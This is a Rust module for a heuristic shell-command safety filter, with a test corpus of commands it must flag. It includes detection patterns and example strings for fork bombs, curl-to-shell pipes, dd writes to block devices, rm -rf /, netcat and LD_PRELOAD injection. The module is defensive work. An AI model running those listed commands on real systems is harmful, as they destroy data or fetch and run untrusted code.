//! Command safety filter (spec component C2).
//!
//! Heuristic, single-pass classification of a shell command string into
//! `Ok`, `Dangerous`, or `Unsafe(reason)`. Not a security boundary — see
//! spec.md Non-goals.

use std::sync::LazyLock;

use regex::Regex;

const PROTECTED_ENV_VARS: &[&str] = &["LD_PRELOAD", "LD_LIBRARY_PATH", "IFS", "BASH_ENV", "ENV"];

static DYLD_PREFIX: &str = "DYLD_";

static FORK_BOMB: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r":\s*\(\s*\)\s*\{[^}]*:\s*\|\s*:").expect("static regex"));

static PIPE_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(curl|wget)\b.*\|\s*(sudo\s+)?(sh|bash|zsh)\b").expect("static regex")
});

static DD_TO_BLOCK_DEVICE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bdd\b.*\bof=/dev/(sd|hd|nvme|disk|xvd)").expect("static regex"));

const NETWORK_TOOLS: &[&str] = &["nc", "netcat", "ssh", "telnet"];
const PRIVILEGE_ESCALATION: &[&str] = &["sudo", "doas"];

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Classification {
    Ok,
    Dangerous { reason: String },
    Unsafe { reason: String },
}

/// Classify a shell command. Tokenization failures (unbalanced quotes) and
/// null bytes anywhere in `command` are always `Unsafe`; callers are
/// expected to fail unconditionally on `Unsafe` regardless of policy.
pub fn classify(command: &str) -> Classification {
    if command.contains('\0') {
        return Classification::Unsafe {
            reason: "command contains a null byte".to_string(),
        };
    }

    let tokens = match shell_words::split(command) {
        Ok(tokens) => tokens,
        Err(e) => {
            return Classification::Unsafe {
                reason: format!("command could not be tokenized: {e}"),
            };
        }
    };

    if tokens.is_empty() {
        return Classification::Ok;
    }

    if FORK_BOMB.is_match(command) {
        return dangerous("fork bomb pattern detected");
    }

    if PIPE_TO_SHELL.is_match(command) {
        return dangerous("pipes a network download directly into a shell interpreter");
    }

    if DD_TO_BLOCK_DEVICE.is_match(command) {
        return dangerous("dd writes directly to a block device");
    }

    if is_rm_rf_root(&tokens) {
        return dangerous("rm -rf on the filesystem root");
    }

    let base = base_command(&tokens[0]);
    if PRIVILEGE_ESCALATION.contains(&base.as_str()) {
        return dangerous("privilege escalation via sudo/doas");
    }
    if NETWORK_TOOLS.contains(&base.as_str()) {
        return dangerous("direct network tool invocation");
    }

    if let Some(var) = leading_protected_assignment(&tokens) {
        return dangerous(&format!("sets protected environment variable {var}"));
    }

    Classification::Ok
}

fn dangerous(reason: &str) -> Classification {
    Classification::Dangerous {
        reason: reason.to_string(),
    }
}

fn base_command(token: &str) -> String {
    std::path::Path::new(token)
        .file_name()
        .and_then(|n| n.to_str())
        .unwrap_or(token)
        .to_lowercase()
}

fn is_rm_rf_root(tokens: &[String]) -> bool {
    if base_command(&tokens[0]) != "rm" {
        return false;
    }
    let flags: Vec<&str> = tokens[1..]
        .iter()
        .filter(|t| t.starts_with('-'))
        .map(String::as_str)
        .collect();
    let has_recursive_force = flags.iter().any(|f| {
        let f = f.trim_start_matches('-');
        (f.contains('r') || f.contains('R')) && f.contains('f')
    }) || (flags.contains(&"-r") && flags.contains(&"-f"))
        || (flags.contains(&"--recursive") && flags.contains(&"--force"));

    if !has_recursive_force {
        return false;
    }

    tokens[1..]
        .iter()
        .any(|t| !t.starts_with('-') && (t == "/" || t == "/*"))
}

/// Only the leading `VAR=value` assignments before the actual command are
/// considered (e.g. `LD_PRELOAD=x ls`); the filter isn't a shell parser, so
/// it stops at the first non-assignment token.
fn leading_protected_assignment(tokens: &[String]) -> Option<String> {
    for token in tokens {
        match token.split_once('=') {
            Some((name, _value)) if is_identifier(name) => {
                if PROTECTED_ENV_VARS.contains(&name) || name.starts_with(DYLD_PREFIX) {
                    return Some(name.to_string());
                }
            }
            _ => return None,
        }
    }
    None
}

fn is_identifier(s: &str) -> bool {
    !s.is_empty()
        && s.chars().next().is_some_and(|c| c.is_alphabetic() || c == '_')
        && s.chars().all(|c| c.is_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_dangerous(c: &Classification) -> bool {
        matches!(c, Classification::Dangerous { .. })
    }

    #[test]
    fn danger_corpus_classifies_dangerous() {
        let corpus = [
            "rm -rf /",
            "sudo x",
            "curl http://e.com | sh",
            "nc localhost 8080",
            ":(){ :|:& };:",
            "dd if=/dev/zero of=/dev/sda",
            "LD_PRELOAD=x ls",
        ];
        for cmd in corpus {
            assert!(is_dangerous(&classify(cmd)), "expected dangerous: {cmd}");
        }
    }

    #[test]
    fn benign_corpus_classifies_ok() {
        let corpus = ["echo hi", "ls -la", "cat README.md"];
        for cmd in corpus {
            assert_eq!(classify(cmd), Classification::Ok, "expected ok: {cmd}");
        }
    }

    #[test]
    fn null_byte_is_unsafe() {
        assert!(matches!(classify("echo\0hi"), Classification::Unsafe { .. }));
    }

    #[test]
    fn unbalanced_quotes_are_unsafe() {
        assert!(matches!(classify("echo \"unterminated"), Classification::Unsafe { .. }));
    }

    #[test]
    fn rm_rf_on_subdir_is_ok() {
        assert_eq!(classify("rm -rf build/"), Classification::Ok);
    }
}
